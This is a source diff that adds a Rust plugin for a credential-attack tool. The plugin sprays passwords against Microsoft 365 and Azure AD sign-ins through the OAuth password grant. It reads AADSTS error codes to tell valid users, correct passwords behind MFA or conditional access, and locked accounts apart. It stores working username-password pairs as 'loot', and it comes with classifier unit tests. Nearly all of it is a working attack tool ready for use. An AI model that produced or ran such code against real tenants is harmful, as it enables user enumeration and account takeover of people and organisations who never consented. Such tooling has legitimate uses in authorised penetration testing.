@@ -0,0 +1,246 @@
+use std::time::Duration;
+
+use async_trait::async_trait;
+use reqwest::{Client, StatusCode};
+
+use crate::creds::Credentials;
+use crate::session::{Error, Loot};
+use crate::utils::once::OncePerTarget;
+use crate::Plugin;
+use crate::{utils, Options};
+
+pub(crate) mod options;
+
+super::manager::register_plugin! {
+    "msol" => Msol::new()
+}
+
+#[derive(Debug, PartialEq)]
+enum Outcome {
+    Valid,
+    InvalidUser,
+    InvalidPassword,
+    // valid password, the account requires a second factor
+    MfaRequired,
+    // valid password, a conditional access policy blocked the sign in
+    ConditionalAccess,
+    PasswordExpired,
+    Locked,
+    Disabled,
+    InvalidTenant,
+    Unknown(String),
+}
+
+impl Outcome {
+    fn status(&self) -> &'static str {
+        match self {
+            Outcome::Valid => "valid",
+            Outcome::InvalidUser => "invalid user",
+            Outcome::InvalidPassword => "valid user",
+            Outcome::MfaRequired => "mfa required",
+            Outcome::ConditionalAccess => "conditional access",
+            Outcome::PasswordExpired => "password expired",
+            Outcome::Locked => "locked",
+            Outcome::Disabled => "disabled",
+            Outcome::InvalidTenant => "invalid tenant",
+            Outcome::Unknown(_) => "unknown",
+        }
+    }
+}
+
+// maps the AADSTS error code of a token response to an outcome
+fn classify(status: StatusCode, body: &str) -> Outcome {
+    if status == StatusCode::OK {
+        return Outcome::Valid;
+    }
+
+    let description = serde_json::from_str::<serde_json::Value>(body)
+        .ok()
+        .and_then(|json| {
+            json.get("error_description")
+                .and_then(|d| d.as_str())
+                .map(|d| d.to_owned())
+        })
+        .unwrap_or_else(|| body.to_owned());
+    let code = description
+        .split(|c: char| !c.is_ascii_alphanumeric())
+        .find(|word| word.starts_with("AADSTS"))
+        .unwrap_or_default();
+
+    match code {
+        "AADSTS50126" => Outcome::InvalidPassword,
+        "AADSTS50034" => Outcome::InvalidUser,
+        "AADSTS50076" | "AADSTS50079" | "AADSTS50158" => Outcome::MfaRequired,
+        "AADSTS53003" | "AADSTS53000" | "AADSTS530034" => Outcome::ConditionalAccess,
+        "AADSTS50055" | "AADSTS50144" => Outcome::PasswordExpired,
+        "AADSTS50053" => Outcome::Locked,
+        "AADSTS50057" => Outcome::Disabled,
+        "AADSTS50128" | "AADSTS50059" | "AADSTS90002" => Outcome::InvalidTenant,
+        _ => Outcome::Unknown(description.lines().next().unwrap_or_default().to_owned()),
+    }
+}
+
+#[derive(Clone)]
+pub(crate) struct Msol {
+    opts: options::Options,
+    client: Client,
+    // users that don't exist, are locked, disabled or already found
+    skip: OncePerTarget,
+    // existing users, reported once
+    valid_users: OncePerTarget,
+}
+
+impl Msol {
+    pub fn new() -> Self {
+        Msol {
+            opts: options::Options::default(),
+            client: Client::new(),
+            skip: OncePerTarget::new(),
+            valid_users: OncePerTarget::new(),
+        }
+    }
+}
+
+#[async_trait]
+impl Plugin for Msol {
+    fn description(&self) -> &'static str {
+        "Microsoft 365 and Azure AD password spraying via the OAuth password grant."
+    }
+
+    fn setup(&mut self, opts: &Options) -> Result<(), Error> {
+        self.opts = opts.msol.clone();
+        self.client = Client::builder()
+            .build()
+            .map_err(|e| e.to_string())?;
+        Ok(())
+    }
+
+    async fn attempt(
+        &self,
+        creds: &Credentials,
+        timeout: Duration,
+    ) -> Result<Option<Vec<Loot>>, Error> {
+        // login.microsoftonline.com or a pass-through proxy for it
+        let address = utils::parse_target_address(&creds.target, 443)?;
+        let user = creds.username.to_lowercase();
+        if self.skip.contains(&user) {
+            return Ok(None);
+        }
+
+        let response = self
+            .client
+            .post(format!(
+                "https://{}/{}/oauth2/token",
+                &address, &self.opts.msol_tenant
+            ))
+            .form(&[
+                ("resource", self.opts.msol_resource.as_str()),
+                ("client_id", self.opts.msol_client_id.as_str()),
+                ("client_info", "1"),
+                ("grant_type", "password"),
+                ("username", creds.username.as_str()),
+                ("password", creds.password.as_str()),
+                ("scope", "openid"),
+            ])
+            .timeout(timeout)
+            .send()
+            .await
+            .map_err(|e| e.to_string())?;
+        let status = response.status();
+        let outcome = classify(status, &response.text().await.unwrap_or_default());
+
+        let with_password = |outcome: &Outcome| {
+            Loot::new(
+                "msol",
+                &address,
+                [
+                    ("username".to_owned(), creds.username.to_owned()),
+                    ("password".to_owned(), creds.password.to_owned()),
+                    ("status".to_owned(), outcome.status().to_owned()),
+                ],
+            )
+        };
+        let user_only = |outcome: &Outcome| {
+            Loot::new(
+                "msol",
+                &address,
+                [
+                    ("username".to_owned(), creds.username.to_owned()),
+                    ("status".to_owned(), outcome.status().to_owned()),
+                ],
+            )
+            .set_partial()
+        };
+
+        match outcome {
+            Outcome::InvalidPassword => Ok(self.valid_users.report(&user, user_only(&outcome))),
+            Outcome::InvalidUser => {
+                log::debug!("{} does not exist", &creds.username);
+                self.skip.insert(&user);
+                Ok(None)
+            }
+            Outcome::Locked | Outcome::Disabled => {
+                // don't make the lockout worse
+                Ok(self.skip.report(&user, user_only(&outcome)))
+            }
+            Outcome::InvalidTenant => Err(format!(
+                "tenant {} does not exist or has no users",
+                &self.opts.msol_tenant
+            )),
+            Outcome::Unknown(description) => Err(format!(
+                "unexpected response ({}): {}",
+                status, description
+            )),
+            // the password is correct
+            Outcome::Valid
+            | Outcome::MfaRequired
+            | Outcome::ConditionalAccess
+            | Outcome::PasswordExpired => {
+                self.skip.insert(&user);
+                Ok(Some(vec![with_password(&outcome)]))
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use reqwest::StatusCode;
+
+    use super::{classify, Outcome};
+
+    #[test]
+    fn can_classify_token_responses() {
+        let error = |code: &str| {
+            format!(
+                r#"{{"error":"invalid_grant","error_description":"{}: The user or administrator has not consented.\r\nTrace ID: 1\r\nCorrelation ID: 2","error_codes":[1]}}"#,
+                code
+            )
+        };
+        assert_eq!(classify(StatusCode::OK, "{}"), Outcome::Valid);
+        assert_eq!(
+            classify(StatusCode::BAD_REQUEST, &error("AADSTS50126")),
+            Outcome::InvalidPassword
+        );
+        assert_eq!(
+            classify(StatusCode::BAD_REQUEST, &error("AADSTS50034")),
+            Outcome::InvalidUser
+        );
+        assert_eq!(
+            classify(StatusCode::BAD_REQUEST, &error("AADSTS50076")),
+            Outcome::MfaRequired
+        );
+        assert_eq!(
+            classify(StatusCode::BAD_REQUEST, &error("AADSTS50053")),
+            Outcome::Locked
+        );
+        assert_eq!(
+            classify(StatusCode::BAD_REQUEST, &error("AADSTS53003")),
+            Outcome::ConditionalAccess
+        );
+        assert!(matches!(
+            classify(StatusCode::BAD_REQUEST, &error("AADSTS99999")),
+            Outcome::Unknown(_)
+        ));
+    }
+}